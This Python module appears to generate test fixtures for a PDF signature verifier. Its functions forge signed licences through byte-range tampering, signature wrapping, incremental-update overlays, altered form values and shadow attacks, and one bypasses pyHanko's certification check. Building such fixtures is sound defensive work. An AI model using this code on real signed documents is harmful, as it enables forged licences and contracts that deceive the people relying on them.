"""Attack PDFs made from a genuine signed licence (pdf-notes A.1–A.5).  Each generator takes the
signed bytes (and, for shadow attacks, what is needed to prepare the document before signing)
and returns the manipulated file.  Incremental updates are written with pyHanko's
IncrementalPdfFileWriter, as an attacker's tool would; raw-byte attacks edit bytes directly.
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _out(w) -> bytes:
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _byte_range(data: bytes) -> tuple[list[int], re.Match]:
    m = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
    return [int(x) for x in m.groups()], m


# -- A.1 / byte level -----------------------------------------------------------------------
def flip_signed_byte(data: bytes) -> bytes:
    """One byte changed inside the signed range: the licensee's name in the /Info dictionary
    of the signed revision (uncompressed, so the edit is a plausible forgery, not noise)."""
    (a, b, c, d), _ = _byte_range(data)
    i = data.index(b"/Producer")
    assert i < b
    j = i + len(b"/Producer (")
    return data[:j] + bytes([data[j] ^ 0x01]) + data[j + 1:]


def zero_contents(data: bytes) -> bytes:
    """USF: /Contents replaced by zeros of the same length."""
    (a, b, c, d), _ = _byte_range(data)
    return data[:b + 1] + b"0" * (c - b - 2) + data[c - 1:]


def remove_byte_range(data: bytes) -> bytes:
    """USF: /ByteRange renamed so a reader cannot find it (same length keeps offsets)."""
    _, m = _byte_range(data)
    return data[:m.start()] + b"/ByteRangX" + data[m.start() + 10:]


def alter_byte_range(data: bytes) -> bytes:
    """USF: /ByteRange pointing at a tiny range (same textual length)."""
    (a, b, c, d), m = _byte_range(data)
    new = f"/ByteRange [0 1 {c} {d}]".encode()
    new = new + b" " * (len(m.group(0)) - len(new))
    return data[:m.start()] + new + data[m.end():]


def null_byte_range(data: bytes) -> bytes:
    """USF: /ByteRange null (padded to the same length)."""
    _, m = _byte_range(data)
    new = b"/ByteRange null"
    return data[:m.start()] + new + b" " * (len(m.group(0)) - len(new)) + data[m.end():]


def append_after_eof(data: bytes, what: bytes = b"99 0 obj\n(Manipulated) \nendobj\n") -> bytes:
    """ISA variant: an object (or any bytes) after %%EOF without an xref."""
    return data + what


def append_update_without_eof(data: bytes) -> bytes:
    """iText isa-3 style: objects, an empty xref and a trailer, but no final %%EOF."""
    return data + (b"4 0 obj\n<< /Length 20 >>\nstream\nBT (Evil) Tj ET\nendstream\nendobj\n"
                   b"xref\ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n" +
                   str(len(data)).encode() + b"\n")


def signature_wrapping(data: bytes) -> bytes:
    """SWA: shrink the /Contents hex string (drop its zero padding) and put a second
    /ByteRange plus bytes into the freed, unsigned gap; offsets of the signed parts unchanged."""
    (a, b, c, d), _ = _byte_range(data)
    hexstr = data[b + 1:c - 1]
    trimmed = hexstr.rstrip(b"0")
    trimmed += b"0" * (len(trimmed) % 2)
    filler = b"/ByteRange [0 1 2 3] /Evil (injected into the unsigned gap)"
    pad = (c - b) - (len(trimmed) + 2) - len(filler)
    assert pad > 0
    return data[:b] + b"<" + trimmed + b">" + filler + b" " * pad + data[c:]


# -- A.2 incremental saving -----------------------------------------------------------------
def overwrite_page_content(data: bytes, text: bytes = b"Manipulated licence") -> bytes:
    """ISA: an incremental update that replaces the page content stream."""
    w = _writer(data)
    page_ref = w.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 24 Tf 100 700 Td (" + text + b") Tj ET")
    page[pdf_name("/Contents")] = w.add_object(stream)
    w.update_container(page)
    return _out(w)


def add_annotation(data: bytes) -> bytes:
    """EAA: a FreeText annotation overlaying the licence text."""
    w = _writer(data)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    annot = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(x) for x in (70, 560, 520, 700)]),
        pdf_name("/Contents"): generic.pdf_string("经营范围：任何业务"),
        pdf_name("/DA"): generic.pdf_string("/Helv 14 Tf 0 g"),
    })
    annots = page.get("/Annots")
    arr = annots.get_object() if annots is not None else generic.ArrayObject()
    arr.append(w.add_object(annot))
    page[pdf_name("/Annots")] = arr
    w.update_container(page)
    return _out(w)


def add_signature_field(data: bytes) -> bytes:
    """SSA: a new visible (empty) signature field whose appearance overlays content."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    w = _writer(data)
    append_signature_field(w, SigFieldSpec("Sneaky", on_page=0, box=(70, 560, 520, 700)))
    return _out(w)


def sign_again(data: bytes, credential, **kw) -> bytes:
    """SSA with a key: a second (approval) signature by some other signer added afterwards."""
    from pyhanko.sign.fields import SigFieldSpec
    from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata, PdfSigner

    from signing.pdf import HeldKeySigner

    signer = HeldKeySigner(credential.key, credential.cert, credential.chain)
    meta = PdfSignatureMetadata(field_name="Second", md_algorithm=signer.spec.digest_name)
    out = io.BytesIO()
    pdf_signer = PdfSigner(meta, signer, new_field_spec=SigFieldSpec("Second", on_page=0,
                                                                     box=(70, 560, 520, 700)))
    # pyHanko politely refuses to sign after a P=1 certification; an attacker's tool does not.
    pdf_signer._enforce_certification_constraints = lambda reader: None
    pdf_signer.sign_pdf(_writer(data), output=out)
    return out.getvalue()


def change_form_value(data: bytes, field_page_box=(70, 500, 300, 530)) -> bytes:
    """Form value change: a text field prepared before signing gets a new value after it.
    `data` must already contain the text field "Amount" (see `with_text_field`)."""
    w = _writer(data)
    for f in w.root["/AcroForm"]["/Fields"]:
        fo = f.get_object()
        if fo.get("/T") == "Amount":
            fo[pdf_name("/V")] = generic.pdf_string("9999999")
            w.update_container(fo)
    return _out(w)


def with_text_field(pdf: bytes) -> bytes:
    """Before signing: add an AcroForm text field "Amount" to the unsigned page."""
    w = _writer(pdf)
    page_ref = w.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    field = generic.DictionaryObject({
        pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): generic.pdf_string("Amount"),
        pdf_name("/V"): generic.pdf_string("100"), pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name("/Widget"), pdf_name("/P"): page_ref,
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(x) for x in (70, 500, 300, 530)]),
        pdf_name("/DA"): generic.pdf_string("/Helv 12 Tf 0 g"),
    })
    ref = w.add_object(field)
    page[pdf_name("/Annots")] = generic.ArrayObject([ref])
    w.update_container(page)
    w.root[pdf_name("/AcroForm")] = generic.DictionaryObject({
        pdf_name("/Fields"): generic.ArrayObject([ref])})
    w.update_root()
    return _out(w)


# -- A.4 shadow attacks ----------------------------------------------------------------------
def shadow_prepare_hide(pdf: bytes) -> bytes:
    """Hide (before signing): the malicious text is already on the page, covered by a white
    full-width overlay drawn in a separate XObject that the attacker later removes."""
    w = _writer(pdf)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    evil = generic.StreamObject(stream_data=b"BT /F9 18 Tf 80 600 Td (EVIL: unlimited scope) Tj ET")
    cover = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(x) for x in (0, 0, 595, 842)]),
    }, stream_data=b"1 g 60 580 480 60 re f")
    cover_ref = w.add_object(cover)
    res = page.get("/Resources").get_object()
    xobjs = res.get("/XObject")
    xobjs = xobjs.get_object() if xobjs is not None else generic.DictionaryObject()
    xobjs[pdf_name("/Cover")] = cover_ref
    res[pdf_name("/XObject")] = xobjs
    draw_cover = generic.StreamObject(stream_data=b"q /Cover Do Q")
    contents = page["/Contents"]
    items = list(contents) if isinstance(contents, generic.ArrayObject) else [page.raw_get("/Contents")]
    page[pdf_name("/Contents")] = generic.ArrayObject(
        items + [w.add_object(evil), w.add_object(draw_cover)])
    w.update_container(page)
    return _out(w)


def shadow_hide(signed: bytes) -> bytes:
    """Hide (after signing): an update redefines only the cover XObject as empty."""
    w = _writer(signed)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = page["/Resources"]["/XObject"].raw_get("/Cover")
    cover = ref.get_object()
    cover._data = b""  # same object number, now draws nothing
    cover._encoded_data = None
    w.mark_update(ref)
    return _out(w)


def shadow_replace(signed: bytes) -> bytes:
    """Replace via overwrite: an update redefines a font object used by the signed page."""
    w = _writer(signed)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    fonts = page["/Resources"]["/Font"]
    name = next(iter(fonts.keys()))
    ref = fonts.raw_get(name)
    font = ref.get_object()
    font[pdf_name("/BaseFont")] = pdf_name("/Courier")
    w.mark_update(ref)
    return _out(w)


def shadow_prepare_hide_and_replace(pdf: bytes) -> bytes:
    """Hide-and-replace (before signing): a complete second page content is embedded as an
    unreferenced object; only the xref will later point at it."""
    w = _writer(pdf)
    shadow = generic.StreamObject(stream_data=b"BT /F1 30 Tf 80 700 Td (SHADOW LICENCE) Tj ET")
    w.add_object(shadow)
    return _out(w)


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """Hide-and-replace (after signing): the update contains only a new xref and trailer
    that points the page's content object number at the shadow bytes inside the signed area."""
    r = PdfFileReader(io.BytesIO(signed), strict=False)
    page = r.root["/Pages"]["/Kids"][0].get_object()
    contents = page.raw_get("/Contents")
    target = contents[0] if isinstance(contents, generic.ArrayObject) else contents
    m = re.search(rb"(\d+) 0 obj(?:(?!endobj).)*?stream\s*BT /F1 30 Tf 80 700 Td \(SHADOW",
                  signed, re.S)
    shadow_off = m.start()
    prev = r.last_startxref
    xref = (f"xref\n{target.idnum} 1\n{shadow_off:010d} 00000 n \r\n"
            f"trailer\n<< /Size {r.trailer['/Size']} /Root {r.trailer.raw_get('/Root').idnum} 0 R"
            f" /Prev {prev} >>\nstartxref\n").encode()
    start = len(signed)
    # The shadow object keeps its own number in its header; a lenient reader follows the xref.
    return signed + xref + str(start).encode() + b"\n%%EOF\n"
